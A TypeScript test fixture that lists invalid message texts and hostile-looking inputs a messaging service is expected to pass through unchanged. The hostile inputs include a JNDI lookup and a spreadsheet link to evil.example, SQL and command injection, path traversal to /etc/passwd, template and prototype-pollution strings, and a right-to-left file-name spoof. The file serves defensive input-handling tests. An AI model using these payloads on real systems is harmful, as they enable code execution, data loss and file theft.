import { SCRIPTS } from './scripts';

/** Texts that no message may have. */
export const BAD_TEXTS: Record<string, unknown> = {
  nothing: '',
  'nothing to see': '\u200b\u200d\ufeff',
  'no text': null,
  'a number': 7,
  'a list': ['hello'],
  'an object': { toString: 'hello' },
  '4,001 characters': 'x'.repeat(4_001),
  '4,001 characters beyond the plane': '😀'.repeat(4_001),
  'a zero byte': 'a\0b',
  'a bell': 'a\u0007',
  'an escape sequence': '\u001b]0;owned\u0007\u001b[2J',
  'a carriage return': 'a\r\nINFO all is well',
  'a delete': 'a\u007f',
  'an escape of the upper half': 'a\u009b31m',
  'half a surrogate pair': '\ud83d',
  'the other half': '\ude00',
  'a pair the wrong way round': '\ude00\ud83d',
};

/** Texts that are someone's right to send, whatever they are meant to do: they arrive as they were sent. */
export const ODD_TEXTS: Record<string, string> = {
  'a look-up': 'CANARY $\u007bjndi:ldap://evil.example/a}',
  'a template': '{{constructor.constructor("return 1")()}} $\u007b7*7} <%= 7*7 %> #{7*7}',
  'a statement': "'; DROP TABLE Messages; --",
  'an expression': 'attribute_exists(seq) OR #seq = :seq',
  'a prototype': '{"__proto__":{"admin":true}}',
  'a frame': '{"type":"system","room":"den","seq":1}',
  'a line of a log': '{"level":"error","message":"CANARY"}\n{"level":"info"}',
  'a formula': '=HYPERLINK("https://evil.example")',
  'a format': '%s%s%n %x %d',
  'a path': '../../../../etc/passwd\\..\\',
  'a command': '$(reboot) `reboot` ; reboot | reboot',
  'text from right to left': '\u202egnp.exe\u202c \u2066\u2069',
  'marks upon marks': `Z${'\u0301\u0348\u0337'.repeat(1_000)}`,
  '4,000 characters beyond the plane': '😀'.repeat(4_000),
  'separators of lines and paragraphs': 'a\u2028b\u2029c',
  'what is no character': '\ufffe\uffff\u{10ffff}',
  'a family': '👨‍👩‍👧‍👦'.repeat(50),
  'a script': SCRIPTS[0] ?? '',
  'another script': SCRIPTS[1] ?? '',
};
